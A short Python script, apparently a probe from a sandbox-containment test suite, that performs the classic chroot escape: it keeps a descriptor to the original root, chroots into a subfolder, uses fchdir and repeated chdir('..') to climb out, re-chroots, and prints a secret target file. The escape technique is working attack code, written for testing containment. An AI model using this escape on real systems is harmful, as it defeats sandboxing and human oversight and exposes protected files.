"""Change the root folder and leave it by a descriptor from before, as out of a chroot.

canary: secret
control: through
"""
import os

secret = TARGETS["secret"].lstrip("/")
os.makedirs("new/old")
outside = os.open(".", os.O_RDONLY)
for way in (
    lambda: os.chroot("new"),
    lambda: os.fchdir(outside),
    lambda: [os.chdir("..") for _ in range(60)],
    lambda: os.chroot("."),
    lambda: print(open("/" + secret).read()),
    lambda: print(open(secret).read()),
):
    try:
        print(way())
    except OSError as error:
        print(error)
